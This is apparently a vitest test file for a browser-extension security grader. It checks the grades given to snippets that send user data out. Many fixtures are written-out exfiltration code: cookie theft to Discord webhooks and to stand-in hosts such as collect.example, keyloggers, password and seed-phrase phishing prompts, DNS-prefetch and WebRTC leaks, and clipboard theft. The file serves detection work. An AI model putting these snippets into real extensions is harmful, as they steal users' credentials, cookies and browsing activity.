import { describe, expect, it } from 'vitest';
import { SEVERITIES, type Severity } from '../../model/finding.ts';
import { graded } from '../testing/graded.ts';
import { ASKED, BY_ITSELF } from './sendingVerdict.ts';

const worse = (a: Severity | undefined, b: Severity | undefined): boolean =>
  (a === undefined ? 9 : SEVERITIES.indexOf(a)) <= (b === undefined ? 9 : SEVERITIES.indexOf(b));

const ALL_COOKIES = (to: string): string =>
  `setInterval(() => chrome.cookies.getAll({}, (all) => fetch(${to}, { method: 'POST', body: JSON.stringify(all) })), 60000);`;

describe('a long way in a small program', () => {
  const long = `function post(to, card) { fetch(to, { method: 'POST', body: JSON.stringify(card) }); }
    function sixth(list) { post('https://gather.example/x', { fields: [{ name: 'said', value: list[0].one }] }); }
    function fifth(list) { sixth(list); }
    function fourth(list) { fifth(list); }
    function third(list) { fourth(list); }
    function second(box) { third([box]); }
    function first(one) { second({ one }); }
    setInterval(() => first(document.body.innerText), 5000);`;

  it('is believed, and among much other code it is a hint at most where others go the same way', async () => {
    const other = Array.from({ length: 4000 }, (_, i) => `function f${i}(a, b) { return [a.x${i}, b].concat(a); }`);
    const beside = Array.from({ length: 20 }, () => 'setInterval(() => first(document.body.innerText), 5000);');
    expect(await graded({ content: long })).toMatch(/[DF]/);
    expect(await graded({ content: `${long}\n${other.join('\n')}` })).toMatch(/[DF]/);
    expect(await graded({ content: `${long}\n${other.join('\n')}${beside.join('\n')}` })).toMatch(/A/);
  });
});

describe('a helper that opens a request with the address it is told', () => {
  const helper = `function ask(link, body) { const x = new XMLHttpRequest(); x.open('POST', link, true); x.send(body); }
    chrome.tabs.onUpdated.addListener((id, info, tab) => {
      const form = new FormData();
      form.append('caption', tab.url);
      ask(RECEIVER, form);
    });`;

  it('sends to whom its caller names', async () => {
    const bot = `const token = '1:a'; ${helper.replace('RECEIVER', "'https://api.telegram.org/bot' + token + '/sendMessage'")}`;
    expect(await graded({ background: bot })).toBe('F');
    const own = helper.replace('RECEIVER', "'https://notes.example/seen'");
    expect(await graded({ background: own, manifest: { homepage_url: 'https://notes.example' } })).toBe('D');
  });
});

describe('what is answered to a prompt', () => {
  const ask = (question: string, to: string): string =>
    `const said = prompt('${question}'); fetch('${to}', { method: 'POST', body: JSON.stringify({ said }) });`;
  const HOOK = 'https://discord.com/api/webhooks/1/2';

  it('is a stolen password where a channel gets it, from a page or from the background', async () => {
    expect(await graded({ content: ask('Your password:', HOOK) })).toBe('F');
    expect(await graded({ background: ask('Enter your seed phrase', HOOK) })).toBe('F');
  });
  it('is given knowingly where it is no secret of an account', async () => {
    expect(await graded({ content: ask('API key', 'https://api.example/v1') })).toMatch(/^A/);
  });
});

describe('the table of sendings', () => {
  it('never weighs an asked sending more than one that happens by itself', () => {
    for (const [data, row] of Object.entries(BY_ITSELF))
      for (const [to, severity] of Object.entries(row))
        expect(worse(severity, ASKED[data as keyof typeof ASKED][to as keyof typeof row]), `${data} to ${to}`).toBe(
          true,
        );
  });

  it('never weighs a named maker more than a stranger, nor a stranger more than a hidden place', () => {
    for (const row of [...Object.values(BY_ITSELF), ...Object.values(ASKED)]) {
      expect(worse(row.hidden, row.stranger)).toBe(true);
      expect(worse(row.stranger, row.maker)).toBe(true);
      expect(worse(row.maker, row.person)).toBe(true);
    }
  });
});

describe('the grade of what sends data', () => {
  it.each([
    ['all cookies to a chat', { background: ALL_COOKIES("'https://discord.com/api/webhooks/1/x'") }, ['F']],
    ['all cookies to a stranger', { background: ALL_COOKIES("'https://collect.example/c'") }, ['F']],
    ['all cookies to an address made at run time', { background: ALL_COOKIES('where') }, ['F']],
    ['all cookies to a program on this computer', { background: ALL_COOKIES("'http://localhost:3000/c'") }, ['F']],
    [
      'keys to the background, kept there',
      {
        content: 'window.onkeydown = (event) => chrome.runtime.sendMessage({ key: event.key });',
        background:
          'const all = []; chrome.runtime.onMessage.addListener(({ key }) => { all.push(key); chrome.storage.local.set({ all }); });',
      },
      ['D', 'F'],
    ],
    [
      'keys by a script that is put into pages',
      {
        background:
          "chrome.tabs.onUpdated.addListener((id) => chrome.scripting.executeScript({ target: { tabId: id }, files: ['content.js'] }));",
        content: "document.addEventListener('keypress', (e) => { chrome.storage.local.set({ last: e.key }); });",
        manifest: { content_scripts: undefined },
      },
      ['D', 'F'],
    ],
    [
      'every address to a stranger',
      { content: "navigator.sendBeacon('https://collect.example/v', location.href);" },
      ['F'],
    ],
    [
      'the cookie of its own site, to that site',
      {
        background:
          "chrome.cookies.get({ url: 'https://notes.example', name: 'id' }).then((c) => fetch('https://notes.example/me', { headers: { 'X-Id': c.value } }));",
      },
      ['A+', 'A'],
    ],
    [
      'the text of a page, by a click, to its maker',
      {
        popup:
          "document.querySelector('#b').addEventListener('click', async () => { const [tab] = await chrome.tabs.query({ active: true }); fetch('https://api.notes.example/add', { method: 'POST', body: tab.url }); });",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['A+', 'A'],
    ],
    [
      'addresses to a server that the person set',
      {
        background:
          "chrome.tabs.onUpdated.addListener(async (id, info, tab) => { const { server } = await chrome.storage.local.get('server'); fetch(server, { method: 'POST', body: tab.url }); });",
        popup:
          "document.querySelector('#b').onclick = () => chrome.storage.local.set({ server: document.querySelector('#b').value });",
      },
      ['A+', 'A'],
    ],
    [
      'addresses to a server that the person set, kept in an object of a class',
      {
        background:
          "class Api { data = { server: null }; load() { return chrome.storage.local.get('set').then(({ set }) => { Object.assign(this.data, set); }); } save(u) { return post(`${this.data.server}/add`, u); } } function post(to, body) { return fetch(to, { method: 'POST', body }); } const api = new Api(); api.load(); chrome.tabs.onUpdated.addListener((id, info, tab) => { api.save(tab.url); });",
        popup:
          "document.querySelector('#b').onclick = () => chrome.storage.local.set({ set: { server: document.querySelector('#b').value } });",
      },
      ['A+', 'A'],
    ],
    [
      'every address, by a class that is told its server',
      {
        background:
          "class Line { #q = []; constructor(base) { this.base = base; } log(x) { this.#q.push(x); if (this.#q.length > 5) this.flush(); } async flush() { const q = this.#q.splice(0); await fetch(this.base + '/events', { method: 'POST', body: JSON.stringify(q) }); } } const line = new Line('https://collect.example'); chrome.tabs.onActivated.addListener(async ({ tabId }) => { const tab = await chrome.tabs.get(tabId); line.log({ u: tab.url }); });",
      },
      ['F'],
    ],
    [
      'every address, by a helper that is given the server',
      {
        background:
          "const post = (to, body) => fetch(`${to}/v`, { method: 'POST', body }); chrome.tabs.onUpdated.addListener((id, info, tab) => post('https://collect.example', tab.url));",
      },
      ['F'],
    ],
    [
      'every address, to one of several servers out of a list',
      {
        background:
          "const servers = ['https://a.collect.example', 'https://b.collect.example']; chrome.tabs.onUpdated.addListener((id, info, tab) => fetch(servers[Math.floor(Math.random() * 2)], { method: 'POST', body: tab.url }));",
      },
      ['F'],
    ],
    [
      'a helper for several servers: each gets what is handed over with it',
      {
        background:
          "const post = (to, body) =>\n  fetch(to, { method: 'POST', body });\nchrome.runtime.onStartup.addListener(() =>\n  post('https://stranger.example/ping', 'hello'));\nchrome.tabs.onUpdated.addListener((id, info, tab) =>\n  post('https://api.notes.example/seen', tab.title));",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['D'],
    ],
    [
      'the storage of a page, through a frame that is made for it',
      {
        content:
          "const f = document.createElement('iframe'); document.body.append(f); fetch('https://collect.example/t', { method: 'POST', body: f.contentWindow.localStorage.token });",
      },
      ['F'],
    ],
    [
      'what a person types into a box of the extension',
      {
        content:
          "const d = document.createElement('div'); d.innerHTML = '<input id=q>'; document.body.append(d); d.querySelector('#q').oninput = (e) => { fetch('https://api.notes.example/find?q=' + e.target.value); };",
      },
      ['A+', 'A'],
    ],
    [
      'what is typed, to a server that the person set',
      {
        content:
          "document.addEventListener('input', (e) => { if (e.target.matches('textarea')) later(e.target.value); }); let timer; function later(text) { clearTimeout(timer); timer = setTimeout(() => chrome.runtime.sendMessage({ text }), 500); }",
        background:
          "chrome.runtime.onMessage.addListener((m) => { chrome.storage.sync.get({ server: 'http://localhost:8081' }, ({ server }) => fetch(server + '/check', { method: 'POST', body: m.text })); });",
        popup:
          "document.querySelector('#b').onclick = () => chrome.storage.sync.set({ server: document.querySelector('#b').value });",
      },
      ['A+', 'A'],
    ],
    [
      'all traffic through what a server says',
      {
        background:
          "fetch('https://pac.example/pac').then((r) => r.text()).then((data) => chrome.proxy.settings.set({ value: { mode: 'pac_script', pacScript: { data } }, scope: 'regular' }));",
        manifest: { permissions: ['proxy'] },
      },
      ['D', 'F'],
    ],
    [
      'its own name on the links of a shop',
      {
        content:
          "document.addEventListener('click', (e) => { const a = e.target.closest('a'); if (a.hostname.endsWith('amazon.com')) { const u = new URL(a.href); u.searchParams.set('tag', 'mine-20'); a.href = u; } }, true);",
      },
      ['D', 'F'],
    ],
    [
      'all cookies over a socket that is kept as a property of the window',
      {
        background:
          "window.line = new WebSocket('wss://collect.example/'); function tell(m) { window.line.send(JSON.stringify(m)); } chrome.cookies.getAll({}, (all) => tell({ all }));",
      },
      ['F'],
    ],
    [
      'cookies when the popup opens, which nobody asked for',
      {
        popup:
          "chrome.tabs.query({ active: true }, ([tab]) => chrome.cookies.getAll({ url: tab.url }, (all) => fetch('http://10.1.2.3:8080/c', { method: 'POST', body: JSON.stringify(all) })));",
        manifest: { host_permissions: ['<all_urls>', 'http://10.1.2.3:8080/*'] },
      },
      ['F'],
    ],
    [
      'a kit whose server is not written in yet',
      { content: "fetch('--- YOUR HOOK ---', { method: 'POST', body: JSON.stringify({ u: location.href }) });" },
      ['F'],
    ],
    [
      'a kit whose server is an empty text, with a path behind',
      {
        background:
          "const SERVER = ''; chrome.cookies.getAll({}, (all) => fetch(SERVER + '/c', { method: 'POST', body: JSON.stringify(all) }));",
      },
      ['F'],
    ],
    [
      'a kit whose server is words, with a path behind',
      {
        background:
          "const config = { to: 'YOUR_SERVER' }; const x = new XMLHttpRequest(); x.open('POST', `${config.to}/h`); chrome.tabs.onUpdated.addListener((id, info, tab) => x.send(tab.url));",
      },
      ['F'],
    ],
    [
      'the same to the site and to a file of the package, which are no empty server',
      {
        content:
          "const ROOT = '/api'; document.querySelector('input').oninput = (e) => fetch('' + ROOT + '/c', { method: 'POST', body: e.target.value });",
      },
      ['A+', 'A'],
    ],
    [
      'every address to a server that the build writes in',
      {
        background:
          "chrome.tabs.onUpdated.addListener((id, info, tab) => fetch(`${import.meta.env.VITE_API}/v`, { method: 'POST', body: tab.url }));",
      },
      ['D', 'F'],
    ],
    [
      'a kit whose server is a name that nothing gives a value',
      { content: "$.get(server_web + 'gate/index.php?history=' + location.href);" },
      ['C', 'D', 'F'],
    ],
    [
      'what is typed, mailed by a mail service that the manifest names',
      {
        content:
          "document.addEventListener('change', (e) => { const x = new XMLHttpRequest(); x.open('POST', 'https://mandrillapp.com/api/1.0/messages/send.json'); x.send(JSON.stringify({ text: e.target.value })); });",
        manifest: { host_permissions: ['<all_urls>', 'https://mandrillapp.com/*'] },
      },
      ['F'],
    ],
    [
      'cookies of the site, into a file where the person says',
      {
        background:
          'chrome.cookies.getAll({}, (all) => chrome.downloads.download({ url: URL.createObjectURL(new Blob([JSON.stringify(all)])), saveAs: true }));',
      },
      ['A+', 'A'],
    ],
    [
      'a script of the page that runs what the page tells itself',
      {
        manifest: {
          web_accessible_resources: [{ resources: ['popup.js'], matches: ['https://video.example/*'] }],
          action: undefined,
        },
        popup:
          "window.addEventListener('message', (e) => { if (e.source !== window || e.data.from !== 'filters') return; (0, eval)(e.data.code); });",
      },
      ['A+', 'A'],
    ],
    [
      'the tabs that are open, each time a service worker starts',
      {
        background:
          "chrome.tabs.query({}, (all) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all.map((one) => one.url)) }));",
      },
      ['F'],
    ],
    [
      'the same by way of a class',
      {
        background:
          "class App { start() { chrome.tabs.query({}, (all) => this.send(all.map((one) => one.url))); } send(list) { fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(list) }); } } new App().start();",
      },
      ['F'],
    ],
    [
      'the same in a page that the person opens',
      {
        popup:
          "chrome.tabs.query({}, (all) => fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all.map((one) => one.url)) }));",
      },
      ['A+', 'A', 'B'],
    ],
    [
      'what is typed, to its maker, once that is turned on',
      {
        content:
          "document.addEventListener('input', async (e) => { const { spelling } = await chrome.storage.local.get(['spelling']); if (!spelling) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
        popup: "document.querySelector('#b').onclick = () => chrome.storage.local.set({ spelling: true });",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['A+', 'A', 'B'],
    ],
    [
      'the same, turned on from the start',
      {
        content:
          "document.addEventListener('input', async (e) => { const { consent } = await chrome.storage.local.get({ consent: true }); if (!consent) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['C', 'D', 'F'],
    ],
    [
      'the same, turned on by the background',
      {
        content:
          "document.addEventListener('input', async (e) => { const { consent } = await chrome.storage.local.get('consent'); if (!consent) return; fetch('https://api.notes.example/check', { method: 'POST', body: e.target.value }); });",
        background: 'chrome.runtime.onInstalled.addListener(() => chrome.storage.local.set({ consent: true }));',
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['C', 'D', 'F'],
    ],
    [
      'every address, with a look at its scheme only',
      {
        background:
          "chrome.webNavigation.onCommitted.addListener((d) => { if (d.frameId !== 0 || d.url.indexOf('http') !== 0) return; fetch('https://collect.example/x', { method: 'POST', body: d.url }); });",
      },
      ['F'],
    ],
    [
      'every address, in the name of a host that is looked up',
      {
        content:
          "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = `//${btoa(location.href)}.a.collect.example`; document.head.append(l);",
      },
      ['F'],
    ],
    [
      'chats, to whoever is at the other end of a channel',
      {
        content:
          "const pc = new RTCPeerConnection(); const line = pc.createDataChannel('a'); line.onopen = () => new MutationObserver(() => line.send(document.querySelector('#main').innerText)).observe(document.body, { childList: true });",
      },
      ['F', 'D'],
    ],
    [
      'the clipboard, to where a server says',
      {
        background:
          "let to; fetch('https://conf.collect.example/c.json').then((r) => r.json()).then((c) => { to = c.u; }); setInterval(async () => { const text = await navigator.clipboard.readText(); if (to) navigator.sendBeacon(to, text); }, 2000);",
      },
      ['F'],
    ],
    [
      'the place, to a weather service, when a button is pressed',
      {
        popup:
          "document.querySelector('#b').onclick = () => navigator.geolocation.getCurrentPosition((p) => fetch('https://weather.example/now?lat=' + p.coords.latitude));",
      },
      ['A+', 'A', 'B'],
    ],
    [
      'every visited address, to another extension',
      {
        background:
          "chrome.tabs.onUpdated.addListener((id, change, tab) => chrome.runtime.sendMessage('kdmpahgjlobcneifpkgjamdcfhoeblin', { at: tab.url }));",
      },
      ['C', 'D', 'F'],
    ],
    [
      'one address, to another extension, when a button is pressed',
      {
        popup:
          "document.querySelector('#b').onclick = async () => { const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); chrome.runtime.sendMessage('kdmpahgjlobcneifpkgjamdcfhoeblin', { at: tab.url }); };",
      },
      ['A+', 'A', 'B'],
    ],
    [
      'the place, to a weather service, in its new tab: the browser asked for it when it was installed',
      {
        manifest: { permissions: ['geolocation'], chrome_url_overrides: { newtab: 'tab.html' } },
        files: {
          'tab.html': '<p id="w"></p><script src="tab.js"></script>',
          'tab.js':
            "navigator.geolocation.getCurrentPosition(async (p) => { document.querySelector('#w').textContent = (await (await fetch('https://weather.example/now?lat=' + p.coords.latitude)).json()).now; });",
        },
      },
      ['A+', 'A', 'B'],
    ],
    [
      'the place with that permission, in a page that nobody sees',
      {
        manifest: { permissions: ['geolocation', 'offscreen'] },
        background: "chrome.offscreen.createDocument({ url: 'o.html', reasons: ['GEOLOCATION'], justification: 'x' });",
        files: {
          'o.html': '<script src="o.js"></script>',
          'o.js':
            "setInterval(() => navigator.geolocation.getCurrentPosition((p) => fetch('https://collect.example/now?lat=' + p.coords.latitude)), 60000);",
        },
      },
      ['D', 'F'],
    ],
    [
      'pressed keys, in the address of a link that the script presses',
      {
        content:
          "document.addEventListener('keydown', (e) => { const a = document.createElement('a'); a.href = 'https://collect.example/x?' + e.key; a.click(); });",
      },
      ['C', 'D', 'F'],
    ],
    [
      'pressed keys, in the address of a sound and of a font',
      {
        content:
          "document.addEventListener('keydown', (e) => { new Audio('https://collect.example/a?' + e.key); new FontFace('x', 'url(https://collect.example/f?' + e.key + ')').load(); });",
      },
      ['F'],
    ],
    [
      'what is typed, kept until there is enough of it',
      {
        content:
          "document.addEventListener('input', ({ target }) => chrome.storage.local.set({ [target.type]: target.value }));",
        background:
          "chrome.tabs.onUpdated.addListener(() => chrome.storage.local.get((all) => { if (all && all.email && all.password) fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify({ email: all.email, password: all.password }) }); }));",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['C', 'D', 'F'],
    ],
    [
      'every address to its maker, in parcels',
      {
        background:
          "const list = []; chrome.tabs.onUpdated.addListener((id, info, tab) => { list.push(tab.url); chrome.storage.local.get('state', ({ state }) => { if (state.length) fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(list) }); }); });",
        manifest: { homepage_url: 'https://notes.example/' },
      },
      ['D', 'F'],
    ],
    [
      'all that a page has stored, every minute',
      {
        content:
          "setInterval(() => { const s = { ...localStorage }; fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
        manifest: {
          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
          host_permissions: ['https://api.notes.example/*'],
        },
      },
      ['F'],
    ],
    [
      'all that a page has stored, one after the other',
      {
        content:
          "setInterval(() => { const s = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); s[k] = localStorage.getItem(k); } fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
        manifest: {
          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
          host_permissions: ['https://api.notes.example/*'],
        },
      },
      ['F'],
    ],
    [
      'one thing that a page has stored',
      {
        content:
          "setInterval(() => { const s = localStorage.getItem('theme'); fetch('https://api.notes.example/up', { method: 'POST', body: JSON.stringify(s) }); }, 60000);",
        manifest: {
          content_scripts: [{ matches: ['https://chat.example/*'], js: ['content.js'] }],
          host_permissions: ['https://api.notes.example/*'],
        },
      },
      ['B', 'C', 'D'],
    ],
    [
      'cookies to where a server says, by one function that asks for everything',
      {
        content:
          "const ask = (m) => new Promise((done) => chrome.runtime.sendMessage(m, done)); (async () => { const { c } = await chrome.storage.local.get('c'); const a = await ask({ t: 'text', url: c.a }); const b = await ask({ t: 'json', url: c.b + a }); const d = await ask({ t: 'json', url: c.d + a + b }); const e = await ask({ t: 'json', url: c.e + '?d=' + encodeURIComponent(d) }); ask({ t: 'send', url: c.to, of: c.of, all: { a, b, d, e } }); })();",
        background:
          "chrome.runtime.onInstalled.addListener(async () => { chrome.storage.local.set({ c: await (await fetch('https://api.notes.example/c')).json() }); }); chrome.runtime.onMessage.addListener((m, s, reply) => { switch (m.t) { case 'text': fetch(m.url).then((r) => r.text()).then(reply); return true; case 'json': fetch(m.url).then((r) => r.json()).then(reply); return true; case 'send': chrome.cookies.getAll({ url: m.of }, (list) => fetch(m.url, { method: 'POST', body: JSON.stringify({ list, all: m.all }) })); return true; } });",
        popup: "document.querySelector('#b').onchange = (e) => chrome.storage.local.set({ dark: e.target.checked });",
      },
      ['F'],
    ],
  ] as const)('%s', async (_, parts, grades) => {
    expect(grades).toContain(await graded(parts));
  });
});

describe('a button that the script put into the page', () => {
  const saving = (find: string): string =>
    `const bar = document.createElement('div'); const button = document.createElement('button'); button.className = 'reader-share control'; bar.append(button); document.body.append(bar);
     bar.insertAdjacentHTML('beforeend', '<a id="reader-keep">Keep</a>');
     ${find}.addEventListener('click', save);
     function save() { fetch('https://reader.example/entries', { method: 'POST', body: JSON.stringify({ address: location.href, text: document.body.innerText }) }); }`;

  it('is the person’s wish, however the script finds it again', async () => {
    for (const find of [
      'button',
      "bar.querySelector('button')",
      "document.querySelector('.reader-share')",
      "frame.contentDocument.querySelector('nav > .reader-share')",
      "document.getElementById('reader-keep')",
    ])
      expect(await graded({ content: saving(find) }), find).toMatch(/[AB]/);
  });

  it('is none where the page’s own button is listened to', async () => {
    for (const find of ["document.querySelector('.sign-in')", "document.getElementById('submit')", 'document'])
      expect(await graded({ content: saving(find) }), find).toMatch(/[CDF]/);
  });
});

describe('a setting that is told by its name', () => {
  const settings = (name: string): string =>
    `chrome.storage.sync.get(null, (all) => { for (const one of Object.keys(all)) { if (one === '${name}') licence = all[one]; } setInterval(() => fetch('https://reader.example/licence', { method: 'POST', body: licence }), 60000); }); let licence;`;

  it('holds only what was kept under that name', async () => {
    const content = `chrome.storage.sync.set({ last: location.href });`;
    expect(await graded({ content, background: settings('licence') })).toMatch(/[AB]/);
    expect(await graded({ content, background: settings('last') })).toMatch(/[CDF]/);
  });
});

describe('a program on the computer that is handed what a server sent', () => {
  const handed = (message: string): string =>
    `setInterval(async () => { const all = await (await fetch('https://pages.example/next')).json(); chrome.runtime.sendNativeMessage('com.example.host', ${message}); }, 60000);`;
  const manifest = { permissions: ['nativeMessaging'] };

  it('is told by the extension itself what to do with it', async () => {
    expect(await graded({ background: handed("{ method: 'save', page: all.text }"), manifest })).toMatch(/[AB]/);
    expect(
      await graded({ background: handed("{ subsystem: 'pages', event: 'read', page: all.text }"), manifest }),
    ).toMatch(/[AB]/);
  });

  it('is asked by another program on this computer', async () => {
    const asked = (address: string): string =>
      `const port = chrome.runtime.connectNative('com.example.host'); let socket = null; const open = (n) => { socket = new WebSocket(${address}); socket.onmessage = (e) => { const b = JSON.parse(e.data); port.postMessage(b); }; }; open(1);`;
    expect(await graded({ background: asked("'ws://127.0.0.1:' + n + '/4'"), manifest })).toMatch(/[AB]/);
    expect(await graded({ background: asked("'wss://orders.example/' + n"), manifest })).toMatch(/[CDF]/);
  });

  it('is the server’s hand where the server says what is done', async () => {
    for (const message of [
      'all',
      '{ method: all.method, page: all.text }',
      '{ event: all.event, page: all.text }',
      "{ type: 'run', command: all.text }",
      "{ type: 'run', ...all }",
      "{ type: 'run', [all.key]: all.text }",
    ])
      expect(await graded({ background: handed(message), manifest }), message).toMatch(/[CDF]/);
  });
});
